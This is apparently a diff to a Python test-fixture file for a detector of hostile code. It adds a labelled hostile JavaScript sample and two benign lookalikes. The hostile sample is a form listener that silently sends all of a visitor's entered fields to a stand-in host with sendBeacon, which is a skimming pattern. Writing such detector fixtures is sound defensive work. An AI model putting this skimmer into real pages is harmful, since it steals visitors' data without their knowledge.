@@ -38,6 +38,11 @@ _SIFTED = (
 HOSTILE: dict[str, dict[str, Sample]] = {
     "secrets_sent": {
         "an archive in memory, by keyword": py(_PACKED % ".ssh", line=7),
+        "what a visitor fills in, without an answer": js(
+            "form.addEventListener('submit', () => {\n"
+            "  navigator.sendBeacon('https://a.invalid', JSON.stringify([...new FormData(form)]));\n});\n",
+            "review",
+        ),
         "names that are resolved and sifted": js(_SIFTED % ".env", line=4),
     },
     "decoded_code": {
@@ -121,6 +126,12 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     "secrets_sent": {
         "results in an archive in memory": {"app.py": _PACKED % "results"},
+        "a form that is sent": {
+            "app.js": "form.onsubmit = () => fetch('https://a.invalid', { method: 'PUT', body: new FormData(form) });\n"
+        },
+        "how many fields a visitor fills in": {
+            "app.js": "form.onsubmit = () => navigator.sendBeacon('https://a.invalid', String(form.elements.length));\n"
+        },
         "other names that are resolved and sifted": {"app.js": _SIFTED % "a.json"},
     },
     "decoded_code": {
